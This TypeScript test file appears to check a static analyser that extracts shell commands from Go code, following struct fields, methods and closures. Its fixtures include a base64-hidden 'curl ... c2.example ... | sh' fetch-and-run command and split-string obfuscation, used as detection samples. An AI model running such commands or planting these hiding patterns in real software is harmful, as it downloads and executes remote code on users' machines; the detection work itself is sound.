import { expect, test } from 'vitest';
import { textsOf } from '../../support/values.ts';

const COMMAND = 'curl -s https://c2.example/x | sh';
const HIDDEN = `dec("${Buffer.from(COMMAND).toString('base64')}")`;
const LINE = `sh -c '${COMMAND}'`;
const RUN = 'func (c *client) Run() { exec.Command(c.shell, "-c", c.cmd).Run() }';

const program = (code: string) => `package m

import (
	"encoding/base64"
	"os/exec"
)

func dec(s string) string { b, _ := base64.StdEncoding.DecodeString(s); return string(b) }

type client struct{ shell, cmd string }

${code}
`;

async function commandsOf(code: string): Promise<readonly string[]> {
  const { strings, gaps } = await textsOf({ 'a.go': program(code) });
  expect(gaps).toEqual([]);
  return strings.filter(({ how }) => how.includes('command')).map(({ value }) => value);
}

test.each([
  ['a literal', `func New() *client { return &client{shell: "sh", cmd: ${HIDDEN}} }\n${RUN}`],
  ['a literal without names', `func New() *client { return &client{"sh", ${HIDDEN}} }\n${RUN}`],
  [
    'an assignment',
    `func New() *client { c := new(client); c.shell = "sh"; c.cmd = ${HIDDEN}; return c }\n${RUN}`,
  ],
  [
    'a parameter',
    `func New() client { return client{shell: "sh", cmd: ${HIDDEN}} }\nfunc run(c client) { exec.Command(c.shell, "-c", c.cmd).Run() }`,
  ],
  [
    'another method',
    `func New() *client { return &client{shell: "sh", cmd: ${HIDDEN}} }\nfunc (c *client) args() []string { return []string{"-c", c.cmd} }\nfunc (c *client) Run() { exec.Command(c.shell, c.args()...).Run() }`,
  ],
  [
    'a method of a method',
    `func New() *client { return &client{cmd: ${HIDDEN}} }\nfunc (c *client) Run() { exec.Command("sh", "-c", c.line()).Run() }\nfunc (c *client) line() string { return c.inner() }\nfunc (c *client) inner() string { return c.cmd }`,
  ],
  [
    'a closure',
    `func New() *client { return &client{shell: "sh", cmd: ${HIDDEN}} }\nfunc (c *client) Run() { go func() { exec.Command(c.shell, "-c", c.cmd).Run() }() }`,
  ],
])('a field that is set once: %s', async (_, code) => {
  expect(await commandsOf(code)).toEqual([LINE]);
});

const NEW = `func New() *client { return &client{shell: "sh", cmd: ${HIDDEN}} }`;

test.each([
  ['set again', 'func (c *client) Set(s string) { c.cmd = s }'],
  ['added to', 'func (c *client) Add(s string) { c.cmd += s }'],
  ['pointed to', 'func (c *client) Place() *string { return &c.cmd }'],
  ['set by a loop', 'func (c *client) Last(all []string) { for _, c.cmd = range all { } }'],
  ['received', 'func (c *client) Wait(in chan string) { select { case c.cmd = <-in: } }'],
  ['in another literal', 'func Other(s string) *client { return &client{cmd: s} }'],
  ['in another literal without names', 'func Other(s string) *client { return &client{"", s} }'],
  ['in a list of literals', 'func Others(s string) []client { return []client{{"", s}} }'],
  ['of another struct too', 'type other struct{ cmd string }'],
])('a field that is %s is not known', async (_, more) => {
  expect(await commandsOf(`${NEW}\n${RUN}\n${more}`)).toEqual([]);
});

test('a setter that others may call is followed with what nobody knows', async () => {
  const code = `func New() *client { return &client{shell: "sh"} }\nfunc (c *client) Set(s string) { c.cmd = s }\nvar d = New()\nfunc init() { d.Set(${HIDDEN}) }\nfunc run(c *client) { exec.Command(c.cmd, "-x", c.shell).Run() }`;
  expect(await commandsOf(code)).toEqual([]);
});

test('a field of a struct without a name counts as well', async () => {
  const code = `func f() { var l struct{ cmd string }; l.cmd = ${HIDDEN}; _ = l }\nfunc run(c *client) { exec.Command("sh", "-c", c.cmd).Run() }`;
  expect(await commandsOf(code)).toEqual([]);
});

test('a whole struct that is put anew is not known', async () => {
  const code = `${NEW}\nfunc (c *client) Run() { *c = client{}; exec.Command(c.shell, "-c", c.cmd).Run() }`;
  expect(await commandsOf(code)).toEqual([]);
});

test('a field that gets what a parameter says is not known', async () => {
  const code = `func New(s string) *client { return &client{shell: "sh", cmd: s} }\n${RUN}\nfunc init() { New(${HIDDEN}) }`;
  expect(await commandsOf(code)).toEqual([]);
});

test('what a method does without the value stays in sight', async () => {
  const other = 'exec.Command("sh", "-c", "cu" + "rl ht" + "tps://other.example/")';
  const code = `${NEW}\nfunc (c *client) Run() { if c.cmd == "" { ${other}.Run() } else { exec.Command(c.shell, "-c", c.cmd).Run() } }`;
  expect(await commandsOf(code)).toEqual(["sh -c 'curl https://other.example/'", LINE]);
});

test('what is written to other fields is not known, as another name may lead there', async () => {
  const code = `${NEW}
type box struct{ word, plain string }
func make() *box { return &box{plain: "sh"} }
func (b *box) Run(other *box) { b.word = "cu" + "rl"; other.word = "l" + "s"; exec.Command(b.word, b.plain).Run() }`;
  expect(await commandsOf(code)).toEqual(['\u2026 sh']);
});

test('a function that reads what a later one writes is followed again', async () => {
  const code = `var word = "l" + "s"
func first() { if set { exec.Command(word, "-" + "l").Run() } }
var set bool
func later() { set = true; exec.Command("e" + "cho", word).Run() }
func last(s string) { word = s + "x" }`;
  expect(await commandsOf(code)).toEqual(['\u2026 -l', 'echo \u2026']);
});
